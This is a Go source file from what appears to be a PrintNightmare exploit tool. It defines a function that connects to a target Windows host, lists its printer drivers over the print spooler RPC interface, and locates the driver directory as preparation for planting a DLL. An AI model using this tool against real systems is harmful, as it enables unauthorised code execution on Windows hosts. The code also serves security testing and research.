package printnightmare

import (
	"context"
	"fmt"

	"github.com/ineffectivecoder/SpoolGooser/pkg/rprn"
)

// Drivers lists every driver installed for the target's architecture along
// with its driver directory.
func (s *Session) Drivers(ctx context.Context) (Environment, []rprn.DriverInfo2, error) {
	var env Environment
	if err := s.open(ctx); err != nil {
		return env, nil, err
	}

	arch := s.transport.Arch()
	label, ok := environmentLabel(arch)
	if !ok {
		return env, nil, fail(NoTarget, nil, "Unsupported target architecture %s.", arch)
	}
	env.Label = label
	s.reporter.Status("Target environment: Windows v%s (%s)", s.transport.OSVersion(), arch)

	resp, err := s.rprn.EnumPrinterDrivers(ctx, "", label, 2)
	if err != nil {
		return env, nil, err
	}
	if resp.Status != 0 {
		return env, nil, statusError("RpcEnumPrinterDrivers", resp.Status)
	}

	drivers, err := rprn.DecodeDriverInfo2Array(resp.Drivers, resp.Returned)
	if err != nil {
		return env, nil, fmt.Errorf("decode drivers: %w", err)
	}
	if len(drivers) > 0 {
		env.DriverPath = siblingPath(rprn.Text(drivers[0].DriverPath), probeDLL)
	}

	if env.DriverDirectory, err = s.driverDirectory(ctx, label); err != nil {
		return env, drivers, err
	}
	return env, drivers, nil
}
